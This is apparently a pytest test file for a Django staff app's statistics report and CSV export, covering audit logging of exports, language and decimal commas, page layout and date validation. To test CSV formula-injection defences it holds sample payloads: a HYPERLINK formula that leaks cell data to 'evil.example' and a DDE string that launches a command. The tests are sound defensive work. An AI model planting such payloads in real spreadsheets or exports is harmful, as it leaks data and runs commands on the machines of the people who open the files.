"""The statistics report and its CSV (issue 10 finding 12; issue 13 #15, #16, #17).

- Names an admin typed (topics, services) never reach a spreadsheet as a formula.
- Every CSV export is written to the audit log, with the coordinator as the one who exported.
- The CSV speaks the page's language, with decimal commas in its semicolon-separated file.
- The statistics pages use the staff layout; the report's date fields hold ISO dates in Finnish.
- Odd dates give a 400 with a form error, never a 500.
"""

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.utils import timezone

from booking.actors import Actor
from booking.models import Booking
from staff.models import AuditEntry, User
from stats import services
from stats.models import Topic
from tests.conftest import staff_login

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klikkaa")'


@pytest.fixture
def coordinator(make_worker):
    return make_worker("Koordinaattori", role=User.Role.COORDINATOR)


def held_booking(service, worker, *, days_ago=3, follow_up_of=None, n=[0]):
    n[0] += 1
    start = timezone.now().replace(microsecond=0) - dt.timedelta(days=days_ago)
    return Booking.objects.create(
        service=service, worker=worker, start=start, end=start + dt.timedelta(minutes=45), status=Booking.Status.COMPLETED,
        code_hash=f"x{n[0]}", follow_up_of=follow_up_of,
    )


def period():
    today = timezone.localdate()
    return today - dt.timedelta(days=30), today


def get_csv(client, query=""):
    start, end = period()
    response = client.get(f"/staff/reports/tilastot.csv?start={start}&end={end}{query}")
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


# --- finding 12: formulas in admin-set names -----------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [FORMULA, "+1+2", "-1+2", "@SUM(1;2)", "\t=1+2", "\r=1+2", "＝1+2", "＋1", "－1", "＠SUM(1)", "  =1+2"],
)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_neutralised(name):
    from stats import exports

    assert exports.neutralise(name) == "'" + name


@pytest.mark.parametrize("text", ["Lintsaaminen", "0–2 vuotta", "<5", "2026-01", "0,125", "3", ""])
def test_ordinary_cells_are_left_as_they_are(text):
    from stats import exports

    assert exports.neutralise(text) == text


def test_topic_and_service_names_reach_the_csv_neutralised(client, service, coordinator):
    development = Topic.objects.get(name_fi="Kehitysvaiheet")
    Topic.objects.create(about="child", parent=development, name_fi=FORMULA, ordering=99)
    service.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    service.save()
    rows = get_csv(staff_login(client, coordinator), f"&service={service.pk}")
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'" + service.name in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")]


# --- finding 12 / #17: the export is audited -----------------------------------------------------
def test_a_csv_export_is_audited_with_the_coordinator_as_actor(client, service, coordinator):
    start, end = period()
    get_csv(staff_login(client, coordinator), f"&service={service.pk}&hide_small=on")
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    assert entry.actor == coordinator
    assert entry.details == {
        "format": "csv", "start": start.isoformat(), "end": end.isoformat(), "service": service.name, "hide_small": True,
    }


def test_export_service_refuses_a_worker_and_audits_nothing(service, worker):
    start, end = period()
    with pytest.raises(services.StatsError) as refused:
        services.report_export(actor=Actor.staff(worker, mfa=True), start=start, end=end)
    assert refused.value.code == "forbidden"
    assert not AuditEntry.objects.exists()


def test_statistics_do_not_import_the_staff_app():
    """stats/ is below staff/: the audit entry is written by a receiver in staff, not called upward."""
    import stats

    for path in Path(stats.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            assert not [n for n in names if n == "staff" or n.startswith("staff.")], f"{path} imports {names}"


# --- #17: language, decimal comma ----------------------------------------------------------------
def test_csv_headings_and_labels_follow_the_page_language_with_decimal_commas(client, service, worker, coordinator):
    first = held_booking(service, worker, days_ago=5)
    for days in (2, 3):
        held_booking(service, worker, days_ago=days)
    held_booking(service, worker, days_ago=1, follow_up_of=first)
    staff_login(client, coordinator)

    finnish = get_csv(client)
    assert finnish[0] == ["Osio", "Luokka", "Alaluokka", "Kuukausi", "Määrä"]
    assert ["Ajat", "Käyty", "", "Yhteensä", "4"] in finnish
    assert ["Ajat", "Jatkoaikojen osuus", "", "Yhteensä", "0,250"] in finnish
    assert any(r[0] == "Lasta koskevat aiheet" and r[1] == "Kehitysvaiheet" for r in finnish)

    client.cookies["django_language"] = "en"
    english = get_csv(client)
    assert english[0] == ["Section", "Category", "Subcategory", "Month", "Count"]
    assert ["Appointments", "Held", "", "Total", "4"] in english
    assert ["Appointments", "Follow-up rate", "", "Total", "0,250"] in english  # the file is ';'-separated in every language


# --- #15: the staff layout -------------------------------------------------------------------------
def test_statistics_pages_use_the_staff_layout(client, service, worker, coordinator):
    booking = held_booking(service, worker)
    for user, path in [(worker, "/staff/stats/"), (worker, f"/staff/stats/{booking.pk}/"), (coordinator, "/staff/reports/")]:
        client.cookies.clear()
        response = staff_login(client, user).get(path)
        assert response.status_code == 200, path
        page = BeautifulSoup(response.content, "html.parser")
        nav = page.select_one("nav.staff-nav")
        assert nav is not None and nav.select_one('a[href="/staff/"]') is not None, f"{path}: no staff menu"
        assert page.select_one(".site-header .who").get_text(strip=True) == user.display_name, f"{path}: no name"
        assert page.select_one('.site-header form[action="/accounts/logout/"] button') is not None, f"{path}: no sign-out"


# --- #16: ISO dates in Finnish -------------------------------------------------------------------
def test_report_date_fields_hold_iso_dates_in_finnish(client, coordinator):
    staff_login(client, coordinator)
    today = timezone.localdate()
    page = BeautifulSoup(client.get("/staff/reports/").content, "html.parser")
    assert page.select_one("input[name=start]")["value"] == today.replace(month=1, day=1).isoformat()
    assert page.select_one("input[name=end]")["value"] == today.isoformat()
    chosen = BeautifulSoup(client.get("/staff/reports/?start=2025-02-03&end=2025-03-04").content, "html.parser")
    assert chosen.select_one("input[name=start]")["value"] == "2025-02-03"
    assert chosen.select_one("input[name=end]")["value"] == "2025-03-04"
    assert chosen.select_one("input[name=start]")["type"] == "date"


# --- odd dates: a 400 with the form's message, never a 500 ---------------------------------------
@pytest.mark.parametrize(
    "query",
    ["start=0001-01-01&end=2026-01-31", "start=2026-01-01&end=9999-12-31", "start=9999-12-31&end=9999-12-31",
     "start=garbage&end=2026-01-31", "start=2026-02-30&end=2026-03-01", "start=2026-03-01&end=2026-02-01",
     "start=01.01.2026&end=2026-01-31"],
)
@pytest.mark.parametrize("path", ["/staff/reports/", "/staff/reports/tilastot.csv"])
def test_odd_dates_give_a_clear_form_error(client, coordinator, path, query):
    staff_login(client, coordinator)
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400
    page = BeautifulSoup(response.content, "html.parser")
    errors = [e.get_text(strip=True) for e in page.select(".field-error")]
    assert errors and all(errors)
    assert not AuditEntry.objects.exists()


def test_an_empty_date_falls_back_to_the_default_period(client, coordinator):
    staff_login(client, coordinator)
    response = client.get("/staff/reports/?start=&end=&service=")
    assert response.status_code == 200
